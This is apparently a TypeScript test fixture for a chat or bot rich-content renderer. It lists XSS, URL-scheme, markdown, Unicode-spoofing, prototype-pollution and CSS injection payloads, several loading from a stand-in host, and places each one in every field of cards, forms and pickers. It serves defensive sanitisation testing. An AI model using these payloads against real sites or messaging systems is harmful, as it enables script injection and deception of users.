/**
 * What somebody would try who can make an agent, a bot or a configuration say anything. Each calls `pwned()` where it
 * works, or asks evil.invalid for something. Sorted by the trick.
 */
export const EVIL = "evil.invalid";

const tags = [
  `<script>pwned()</script>`,
  `<ScRiPt src=//${EVIL}/a.js></sCrIpT>`,
  `</div></section><script>pwned()</script>`,
  `<img src=x onerror=pwned()>`,
  `<img src="//${EVIL}/a.png" onload="pwned()">`,
  `<body onload=pwned()><details open ontoggle=pwned()>`,
  `<input autofocus onfocus=pwned()><video><source onerror=pwned()></video>`,
  `<iframe srcdoc="<script>parent.pwned()</script>"></iframe>`,
  `<iframe src="javascript:parent.pwned()"></iframe><object data="javascript:pwned()"></object>`,
  `<base href="//${EVIL}/"><link rel=stylesheet href="//${EVIL}/a.css"><meta http-equiv=refresh content="0;url=//${EVIL}/">`,
  `<form action="//${EVIL}/"><button formaction="javascript:pwned()">x</button></form>`,
  `<style>@import "//${EVIL}/a.css"; :host{display:none!important}</style>`,
  `<template shadowrootmode=open><script>pwned()</script></template>`,
  `<slot name=empty onslotchange=pwned()></slot><x-foo is=x onclick=pwned()>`,
  `<svg/onload=pwned()><animate onbegin=pwned() attributeName=x dur=1s>`,
  `<svg><script>pwned()</script><use href="data:image/svg+xml,<svg id=x onload=pwned()/>#x"/></svg>`,
  `<svg><a xlink:href="javascript:pwned()"><text y=20>x</text></a><foreignObject><img src=x onerror=pwned()></foreignObject></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>`,
  `<math><maction actiontype=statusline xlink:href="javascript:pwned()">x</maction></math>`,
  `<noscript><p title="</noscript><img src=x onerror=pwned()>">`,
  `<!--><img src=x onerror=pwned()>--><![CDATA[<script>pwned()</script>]]>`,
];

const breakouts = [
  `" onmouseover="pwned()" autofocus onfocus="pwned()" x="`,
  `' onerror='pwned()' '><script>pwned()</script>`,
  "`" + "$" + "{pwned()}` #{pwned()} {{constructor.constructor('pwned()')()}}",
  "?lit$0123456789$<!--lit-part--><?lit$1$?>",
  `\\u003cimg src=x onerror=pwned()\\u003e &lt;script&gt;pwned()&lt;/script&gt; &#x3c;script>pwned()`,
  `%3Cscript%3Epwned()%3C/script%3E`,
];

const addresses = [
  `javascript:pwned()`,
  `JaVaScRiPt:pwned()`,
  ` javascript:pwned()`,
  `\u0001javascript:pwned()`,
  `java\tscript:pwned()`,
  `java\nscript:pwned()`,
  `javascript&colon;pwned()`,
  `javascript://${EVIL}/%0apwned()`,
  `javascript:https://example.com/%0apwned()`,
  `data:text/html,<script>pwned()</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>`,
  `vbscript:pwned()`,
  `blob:http://${EVIL}/0e1f2a3b`,
  `filesystem:http://${EVIL}/x`,
  `file:///etc/passwd`,
  `view-source:http://${EVIL}/`,
  `intent://${EVIL}/#Intent;end`,
  `https://${EVIL}/a.svg" onerror="pwned()" x="`,
  `http://example.com:80@${EVIL}/?<script>pwned()</script>`,
  `//${EVIL}/a`,
  `/\\${EVIL}/a`,
  `\\\\${EVIL}\\a`,
];

const marks = [
  `[click](javascript:pwned())`,
  `[click](java\tscript:pwned())`,
  `[click](<javascript:pwned()>)`,
  `[click]( javascript:pwned() "x" onclick="pwned()")`,
  `[click](data:text/html,<script>pwned()</script>)`,
  `![x](//${EVIL}/a.png) ![x](javascript:pwned()) ![x](x" onerror="pwned())`,
  `[a]: javascript:pwned() "x"\n\n[a] <javascript:pwned()>`,
  `**<img src=x onerror=pwned()>** _<script>pwned()</script>_`,
  "```html\n<script>pwned()</script>\n```\n`<img src=x onerror=pwned()>`",
  `- <svg onload=pwned()>\n1. [x](vbscript:pwned())`,
  `[https://example.com](javascript:pwned()) [x](https://example.com/"onmouseover="pwned())`,
];

const letters = [
  `\u202e<tpircs>)(denwp\u202c photo\u202egpj.exe`,
  `\u2066javascript:pwned()\u2069 https://example.com/\u202emoc.${EVIL}`,
  `＜script＞pwned()＜/script＞ \u0000<\u0000script>pwned()</script>`,
  `\ud800 \udfff \uffff \ufeff \u200b<img\u200b src=x onerror=pwned()>`,
  `${"A\u0301\u0302\u0303".repeat(40)}<script>pwned()</script>`,
];

const keys = [`__proto__`, `constructor.prototype`, `{"__proto__":{"polluted":"yes"}}`, `toString`, `hasOwnProperty`];

const styles = [
  `red;background:url(//${EVIL}/a.png)`,
  `#fff} :host{background:url(//${EVIL}/b.png)} x{`,
  `expression(pwned()) url("javascript:pwned()") -moz-binding:url(//${EVIL}/x.xml#x)`,
  `var(--x, url(//${EVIL}/c.png)); position:fixed; inset:0; z-index:9999`,
];

export const PAYLOADS: readonly string[] = [
  ...tags,
  ...breakouts,
  ...addresses,
  ...marks,
  ...letters,
  ...keys,
  ...styles,
];

/** Every piece of rich content with the payload in each of its fields. */
export function contentsOf(payload: string): unknown[] {
  const link = { type: "Link", text: payload, url: payload, payload };
  const card = {
    title: payload,
    description: payload,
    image: payload,
    video: payload,
    defaultAction: link,
    actions: [link, { type: "Postback", text: payload, payload }, { type: payload, text: payload, url: payload }],
  };
  const file = { id: payload, url: payload, filename: payload, mime: payload, sha256: payload, text: payload };
  const item = { id: payload, title: payload, subtitle: payload, imageUrl: payload };
  const kinds = ["Image", "Video", "File", payload];
  return [
    { contentType: "Card", card },
    { contentType: "Carousel", carousel: { cards: [card] } },
    ...kinds.map((mediaType) => ({ contentType: "Attachment", attachment: { ...file, mediaType } })),
    {
      contentType: "DatePicker",
      datePicker: {
        title: payload,
        subtitle: payload,
        imageUrl: payload,
        dateMinimum: payload,
        dateMaximum: payload,
        availableTimes: [{ dateTime: payload, duration: 60 }, { dateTime: "2030-01-01T10:00:00Z" }],
      },
    },
    {
      contentType: "ListPicker",
      listPicker: {
        id: payload,
        sections: [{ title: payload, multipleSelection: true, items: [item] }],
        receivedMessage: item,
        replyMessage: item,
      },
    },
    { contentType: "Form", form: formOf(payload) },
    { contentType: "ButtonResponse", buttonResponse: { type: "Button", text: payload, payload } },
    { contentType: "GenericTemplate", generic: { ...card, elements: [card] } },
    { contentType: payload, [payload]: payload },
  ];
}

/** A form of every part that there is. */
function formOf(payload: string): unknown {
  const item = { id: payload, title: payload, subtitle: payload, imageUrl: payload };
  const part = { id: payload, title: payload, subtitle: payload, isRequired: true };
  const input = { ...part, placeholderText: payload, keyboardType: payload, autoCompleteType: payload, value: payload };
  const pageComponents = [
    { formComponentType: "Input", input },
    { formComponentType: "Input", input: { ...input, keyboardType: "URL", isMultipleLine: true } },
    { formComponentType: "DatePicker", datePicker: { ...part, dateMinimum: payload, dateMaximum: payload } },
    { formComponentType: "WheelPicker", wheelPicker: { ...part, items: [item] } },
    { formComponentType: "ListPicker", listPicker: { ...part, sections: [{ title: payload, items: [item] }] } },
    { formComponentType: payload, [payload]: part },
  ];
  return {
    cannedResponseId: payload,
    originatingMessageId: payload,
    introduction: { title: payload, subtitle: payload, buttonText: payload },
    receivedMessage: item,
    replyMessage: item,
    showSummary: true,
    formPages: [{ title: payload, subtitle: payload, pageComponents }],
    response: [{ component: { buttonResponse: { type: "Form", text: payload, payload } } }],
  };
}
